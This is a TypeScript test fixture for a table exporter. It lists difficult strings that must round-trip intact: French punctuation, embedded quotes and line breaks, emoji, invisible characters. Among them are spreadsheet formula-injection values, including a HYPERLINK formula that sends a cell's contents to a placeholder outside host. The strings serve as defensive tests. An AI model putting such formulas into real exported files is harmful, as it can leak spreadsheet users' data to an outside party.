import type { Cell, Table } from '../../src/export/column.ts'

/** What breaks careless writers and readers of tables: each a text that must come back as it was. */
export const HARD = [
  'Évaluée à « 33 millions » d’assurés\u00a0; œuvre, naïveté, ÿ',
  'une virgule, un point-virgule; une tabulation\tet "des guillemets"',
  'deux\nlignes', 'un retour\rseul', 'les deux\r\nensemble', 'fin de ligne\n',
  '=1+1', '+33 1 23 45 67 89', '-2', '@SUM(A1)', '\t=1', '\r=1', '＝1', "'apostrophe", "''deux",
  '=HYPERLINK("http://exemple.example/?x="&A1)', ' des blancs ', '"', '""', ',', '0012', '1e5', 'true', 'null', 'NA',
  '🚆 emoji', '\u202edroite à gauche', 'zéro\u200blargeur', 'a'.repeat(10_000),
]

export interface Row {
  readonly text: string | null
  readonly count: number
  readonly part: number | null
  readonly yes: boolean | null
}

const described = { fr: 'x', en: 'x' }
const column = (name: keyof Row, type: 'string' | 'integer' | 'number' | 'boolean', required = false) => ({ name, type, required, description: described, cell: (row: Row): Cell => row[name] })

export const table: Table<Row> = {
  name: 'hard', description: described, key: ['count'], references: [],
  columns: [column('text', 'string'), column('count', 'integer', true), column('part', 'number'), column('yes', 'boolean')],
}

/** Every hard text, with numbers and truths beside it, and a row of unknowns. */
export const rows: readonly Row[] = [
  ...HARD.map((text, index): Row => ({ text, count: index, part: index % 3 === 0 ? -(index + 1) / 7 : index * 1e9, yes: index % 2 === 0 })),
  { text: null, count: -1, part: null, yes: null },
]

export async function* each<T>(items: Iterable<T>): AsyncGenerator<T> {
  yield* items
}

export async function collected(pieces: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = []
  for await (const piece of pieces) parts.push(Buffer.from(piece as Uint8Array))
  return Buffer.concat(parts)
}
